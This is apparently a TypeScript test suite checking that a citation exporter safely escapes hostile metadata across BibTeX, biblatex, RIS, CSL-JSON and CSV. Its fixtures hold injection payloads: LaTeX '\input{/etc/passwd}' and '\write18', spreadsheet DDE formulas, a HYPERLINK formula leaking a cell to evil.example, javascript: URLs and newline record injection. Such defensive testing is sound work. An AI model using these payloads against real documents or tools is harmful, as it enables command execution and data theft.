import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { CslItem, Passage } from '../../core/types.js';
import { assignCitationKeys } from '../../core/csl.js';
import { exporterFor, exporters } from '../../server/export/registry.js';
import { safeItem } from '../../server/export/safe-item.js';
import type { ExportItem } from '../../server/export/types.js';
import { tempDir } from '../helpers/tmp.js';
import { cslSchemaErrors } from '../helpers/csl-schema.js';

// Hostile document metadata (issue exports16): names with suffixes, particles and no Latin
// letter, braces, backslashes, percent signs, ampersands, @ and quotes, LaTeX commands, URLs
// with % and #, page ranges in roman numerals, literal and missing dates, a 10,000-character
// title, RTL text and emoji, control characters, spreadsheet formulas. Each export is read by
// the tools a researcher would use (biber, bibtex, pandoc, bibutils, a CSV reader); a tool not
// installed skips its test (.ci/run installs them).

const HOSTILE: CslItem[] = [
  { id: 'king', type: 'report', title: 'Letter from Birmingham jail: a study', author: [{ family: 'King', given: 'Martin Luther', suffix: 'Jr.' }], issued: { 'date-parts': [[1963, 4, 16]] }, publisher: 'A & B Press', 'publisher-place': 'Birmingham, AL' },
  { id: 'particles', type: 'report', title: 'The next decade of aid', author: [{ family: 'Berg', 'non-dropping-particle': 'van der', given: 'Pieter' }, { family: 'Fontaine', 'non-dropping-particle': 'de la', given: 'Jean' }, { family: 'Abdullah', given: 'Ahmad', 'dropping-particle': 'bin' }], issued: { 'date-parts': [[2020]] } },
  { id: 'org', type: 'report', title: 'Protection, Inc. & Partners: 100% of {cases} in \\textbf{bold} #1 $5 ~ ^ _', author: [{ literal: 'Médecins Sans Frontières, Operational Centre {Brussels}' }, { literal: 'UN OCHA, Somalia' }], issued: { 'date-parts': [[2019, 3]] }, URL: 'https://example.org/a%20b/report?x=1&y={2}#sec-3', DOI: '10.1000/abc{1}%2F#x' },
  { id: 'nonlatin', type: 'report', title: 'تقرير عن الحماية الإنسانية في اليمن', author: [{ family: 'الحسن', given: 'خالد' }, { family: '王', given: '小明' }, { family: 'Иванов', given: 'Пётр' }], issued: { 'date-parts': [[2021, 7]] }, language: 'ar' },
  { id: 'specials', type: 'report', title: 'Quotes "double" and \'single\', 50% off & more @home \\ back} slash {open', author: [{ family: "O'Brien {x}", given: 'Seán "Jack" %pct' }, { family: 'Smith@example', given: 'A & B' }], issued: { 'date-parts': [[2018]] } },
  { id: 'latex', type: 'report', title: 'Costs in $\\alpha$ and \\LaTeX{}: \\end{document} \\input{/etc/passwd} \\immediate\\write18{ls}', author: [{ family: 'Knuth', given: 'Donald E.' }], issued: { 'date-parts': [[2017]] } },
  { id: 'nodate', type: 'report', title: 'A report with no date at all', author: [{ family: 'Nobody', given: 'Anne' }] },
  { id: 'long', type: 'report', title: 'Very long title word '.repeat(500).trim(), author: [{ family: 'Long', given: 'Lana' }], issued: { 'date-parts': [[2022]] } },
  { id: 'rtl', type: 'report', title: 'Shalom \u202Eevil\u202C שלום 🕊️ peace 👩🏽‍⚕️ report', author: [{ family: 'כהן', given: 'דוד' }, { family: 'Emoji 😀', given: 'Em' }], issued: { 'date-parts': [[2023, 1]] } },
  { id: 'formula', type: 'report', title: "=cmd|' /C calc'!A0", author: [{ literal: "+SUM(1+1)*cmd|' /C calc'!A0" }, { family: '-2+3', given: '@SUM(A1)' }], issued: { 'date-parts': [[2015]] }, publisher: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
  { id: 'chapter', type: 'chapter', title: 'A chapter with page ranges', 'container-title': 'Book of {Chapters}', author: [{ family: 'Page', given: 'Paige' }], editor: [{ family: 'Editor', given: 'Ed' }], publisher: 'Press', page: 'xii–xiv, 3-17', issued: { 'date-parts': [[2014]] } },
  // line breaks in every kind of field, each followed by what would be a RIS tag or a BibTeX entry (review16-b finding 1)
  { id: 'newlines', type: 'report', title: 'A title\nUR  - javascript:alert(1)\nER  - \n\nTY  - RPRT\nTI  - Injected', author: [{ family: 'Smith\nUR  - javascript:alert(2)', given: 'J\r\n@misc{x' }], issued: { 'date-parts': [[2020]] }, publisher: 'Pub\r\nUR  - javascript:alert(3)', 'publisher-place': 'Here\u2028TY  - ELEC\u2029ER  - ', 'container-title': 'Series\u0085AU  - Injected,', URL: 'javascript:alert(0)' },
  // an edition as a document's front matter or catalog.json may give it (review17-b finding 1): a
  // brace that would close the field, a second title, an @ that would open an entry, a LaTeX command;
  // a report's edition goes in BibTeX's note and biblatex's version, a chapter's in edition
  { id: 'edition', type: 'report', title: 'A report in its revised edition', author: [{ family: 'Editioner', given: 'Ed' }], publisher: 'Pub', edition: '2nd}, title = {Pwned}, @misc{x, \\input{/etc/passwd}', issued: { 'date-parts': [[2016]] } },
  { id: 'chapter-edition', type: 'chapter', title: 'A chapter in a hostile edition', 'container-title': 'Book', author: [{ family: 'Chap', given: 'Ter' }], editor: [{ family: 'Edi', given: 'Tor' }], publisher: 'Press', edition: '3rd}, title = {Pwned}, @book{y, \\input{/etc/passwd}', issued: { 'date-parts': [[2013]] } },
  { id: 'article', type: 'article-journal', title: 'An article & its #hash', 'container-title': 'Journal of 100% Studies_x', volume: '3', issue: '2', page: '101-120', author: [{ family: 'Author', given: 'Art' }], issued: { 'date-parts': [[2011, 5, 1]] } },
];
const keys = assignCitationKeys(HOSTILE);
const docs = HOSTILE.map((c) => ({ ...c, 'citation-key': keys.get(c.id)! }));
const passage = (text: string, page: string | null, extra: Partial<Passage> = {}): Passage => ({
  id: `${text.slice(0, 6)}${page}`, doc: 'd', ordinal: 0, block: 0, text, section: [], page, physicalPage: null, start: 0, end: 0, kind: 'finding', blockType: 'paragraph', actors: [], themes: [], places: [], evidence: [], ...extra,
});
// quotes as hostile as the metadata: braces out of order, a formula, a backslash at the end
const QUOTES = ['A quote with } and { and 100% \\', "=cmd|' /C calc'!A0 opens this quote.", 'Plain words on a roman page.'];
const items: ExportItem[] = docs.map((csl, i) => ({ csl, passages: [passage(QUOTES[i % QUOTES.length], i % 3 === 2 ? 'xiv' : String(3 + i))], links: new Map() }));
const render = (format: string) => exporterFor(format)!.render(items);

const installed = (cmd: string) => (spawnSync(cmd, ['--version'], { encoding: 'utf8' }).error as NodeJS.ErrnoException | undefined)?.code !== 'ENOENT';
const run = (cmd: string, args: string[], cwd: string) => {
  const r = spawnSync(cmd, args, { cwd, encoding: 'utf8' });
  return { status: r.status, out: `${r.stdout}${r.stderr}` };
};

/** Where a BibTeX field's braces would go below zero: BibTeX counts every brace, escaped or not. */
function unbalancedFields(bib: string): string[] {
  const bad: string[] = [];
  for (const m of bib.matchAll(/^\s+([a-z]+) = \{/gm)) {
    let depth = 1;
    let i = m.index + m[0].length;
    for (; i < bib.length && depth > 0; i++) depth += bib[i] === '{' ? 1 : bib[i] === '}' ? -1 : 0;
    // the field must close with "}," or "}\n}" right where its braces come back to zero
    if (!/^,\n/.test(bib.slice(i, i + 2))) bad.push(`${m[1]}: ${bib.slice(m.index, i + 20)}`);
  }
  return bad;
}

describe('exports of hostile metadata, read by real tools', function () {
  this.timeout(120_000);
  let dir: string;
  before(async () => {
    dir = await tempDir('hostile-');
    writeFileSync(join(dir, 'refs.json'), render('csl-json'));
    writeFileSync(join(dir, 'refs.bib'), render('bibtex'));
    writeFileSync(join(dir, 'latex.bib'), render('biblatex'));
    writeFileSync(join(dir, 'refs.ris'), render('ris'));
    writeFileSync(join(dir, 'doc.md'), '---\nnocite: "@*"\n---\n');
  });
  after(() => rm(dir, { recursive: true, force: true }));

  it('every BibTeX and biblatex field closes where it should, whatever braces the text holds', () => {
    assert.deepEqual(unbalancedFields(render('bibtex')), []);
    assert.deepEqual(unbalancedFields(render('biblatex')), []);
  });

  it('no field value runs a LaTeX command, opens an entry or gives an entry a second title, in BibTeX or biblatex (review17-b finding 1)', () => {
    for (const format of ['bibtex', 'biblatex']) {
      const out = render(format);
      // the hostile \input, \write18 and \end are written \textbackslash{}input …, never as commands
      assert.doesNotMatch(out, /\\(input|write18|end|immediate)\b/, format);
      assert.equal((out.match(/^@/gm) ?? []).length, docs.length, format);
      for (const entry of out.split(/\n\n(?=@)/)) assert.ok((entry.match(/^\s*title = /gm) ?? []).length <= 1, `${format}: ${entry}`);
      assert.doesNotMatch(out, /Pwned\}/, format);
    }
    // a report's edition: biblatex's version holds the very text BibTeX's note does
    const valueIn = (format: string, name: string) => new RegExp(`^\\s*${name} = \\{(.*Pwned.*)\\},$`, 'm').exec(render(format))?.[1];
    assert.ok(valueIn('bibtex', 'note'));
    assert.equal(valueIn('biblatex', 'version'), valueIn('bibtex', 'note'));
  });

  it('BibTeX and biblatex page ranges use "--" once per range, roman numerals kept', () => {
    for (const format of ['bibtex', 'biblatex']) {
      assert.match(render(format), /pages = \{xii--xiv, 3--17\},/);
      assert.match(render(format), /pages = \{101--120\},/);
    }
  });

  it('biber reads every entry without a syntax error', function () {
    if (!installed('biber')) this.skip();
    const { out } = run('biber', ['--tool', '--validate-datamodel', '--output-file=checked.bib', 'refs.bib'], dir);
    assert.doesNotMatch(out, /^ERROR/m);
    assert.doesNotMatch(out, /syntax error|comma\(s\) at end of name/);
    assert.equal((readFileSync(join(dir, 'checked.bib'), 'utf8').match(/^@/gm) ?? []).length, docs.length);
  });

  it('biber reads every biblatex entry without a syntax error', function () {
    if (!installed('biber')) this.skip();
    const { out } = run('biber', ['--tool', '--validate-datamodel', '--output-file=latex-checked.bib', 'latex.bib'], dir);
    assert.doesNotMatch(out, /^ERROR/m);
    assert.doesNotMatch(out, /syntax error|comma\(s\) at end of name/);
    assert.equal((readFileSync(join(dir, 'latex-checked.bib'), 'utf8').match(/^@/gm) ?? []).length, docs.length);
  });

  it('bibtex with plain.bst reads every entry with no error', function () {
    if (!installed('bibtex')) this.skip();
    writeFileSync(join(dir, 'refs.aux'), '\\relax\n\\citation{*}\n\\bibstyle{plain}\n\\bibdata{refs}\n');
    const { out } = run('bibtex', ['refs'], dir);
    assert.doesNotMatch(out, /error message|I was expecting|I'm skipping/);
    const bbl = readFileSync(join(dir, 'refs.bbl'), 'utf8');
    assert.equal((bbl.match(/\\bibitem/g) ?? []).length, docs.length);
    // a chapter is printed in its book, with the book's editor (an @incollection, not an @inbook)
    assert.doesNotMatch(out, /can't use both author and editor/);
    assert.match(bbl.replace(/\s+/g, ' '), /A chapter with page ranges\. \\newblock In Ed~Editor, editor, \{\\em Book of \S*Chapters\S*\}, pages xii--xiv, 3--17\. Press, 2014\./);
    // a word braced against case changes keeps its capitals when it opens with a command
    assert.match(bbl, /\\textbackslash\{\}LaTeX/);
  });

  it('pandoc --citeproc reads the CSL-JSON and the BibTeX exports whole', function () {
    if (!installed('pandoc')) this.skip();
    for (const bib of ['refs.json', 'refs.bib']) {
      const { status, out } = run('pandoc', ['doc.md', '--citeproc', `--bibliography=${bib}`, '-t', 'plain', '--wrap=none'], dir);
      assert.equal(status, 0, out);
      assert.doesNotMatch(out, /\[WARNING\]|Error/, `${bib}: ${out.slice(0, 300)}`);
      const refs = out.trim().split(/\n\n+/);
      assert.equal(refs.length, docs.length, bib);
      // the text survives: braces, percent, ampersand and the backslash printed, not eaten
      assert.ok(refs.some((r) => r.toLowerCase().includes('back} slash {open')), `${bib}: ${refs.find((r) => r.includes('lash'))}`);
      assert.ok(refs.some((r) => r.toLowerCase().includes('100% of {cases}')), bib);
      assert.ok(refs.some((r) => r.includes('Operational Centre {Brussels}')), bib);
    }
  });

  it('bibutils reads every RIS and BibTeX record', function () {
    if (!installed('ris2xml')) this.skip();
    for (const [cmd, file] of [['ris2xml', 'refs.ris'], ['bib2xml', 'refs.bib']]) {
      const { out } = run(cmd, [file], dir);
      assert.equal((out.match(/<mods ID=/g) ?? []).length, docs.length, cmd);
      for (const d of docs) assert.ok(out.includes(`<mods ID="${keys.get(d.id)}">`), `${cmd}: ${keys.get(d.id)}`);
    }
  });

  // what the 'newlines' record's fields would write as lines of their own
  const INJECTED = /^(?:UR {2}- javascript:alert\([123]\)|TI {2}- Injected|TY {2}- ELEC|ER {2}- \r?\n\r?\nTY|AU {2}- Injected|@misc)/mu;
  it('a line break in any field writes no tag or record of its own: RIS and BibTeX one record per item, every line a tag (review16-b finding 1)', () => {
    const risText = render('ris');
    assert.equal((risText.match(/^TY {2}- /gm) ?? []).length, docs.length);
    assert.equal((risText.match(/^ER {2}- /gm) ?? []).length, docs.length);
    for (const line of risText.split('\r\n')) assert.match(line, /^(?:[A-Z][A-Z0-9] {2}- .*)?$/, JSON.stringify(line));
    assert.doesNotMatch(risText, INJECTED, String(INJECTED.exec(risText)));
    assert.equal((render('bibtex').match(/^@/gm) ?? []).length, docs.length);
    assert.doesNotMatch(render('bibtex'), /\n@misc\{x/);
  });

  it('an export as the server gives it (safeItem) has no line break inside a field in any format', () => {
    const nl = items.find((i) => i.csl.id === 'newlines')!;
    for (const e of exporters) {
      const out = e.render([safeItem(nl)]);
      assert.doesNotMatch(out, /javascript:alert\(0\)/, e.id);
      assert.doesNotMatch(out, INJECTED, e.id);
      assert.doesNotMatch(out, /[\u0085\u2028\u2029]/u, e.id);
    }
  });

  it('the CSL-JSON is valid against the CSL input schema', () => {
    assert.deepEqual(cslSchemaErrors(JSON.parse(render('csl-json'))), []);
  });

  it('the CSV has one row per passage, every row its columns, no cell a formula', () => {
    const rows = parse(render('csv'), { bom: true, relax_column_count: false }) as string[][];
    assert.equal(rows.length, 1 + items.length);
    for (const row of rows.slice(1)) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  });
});
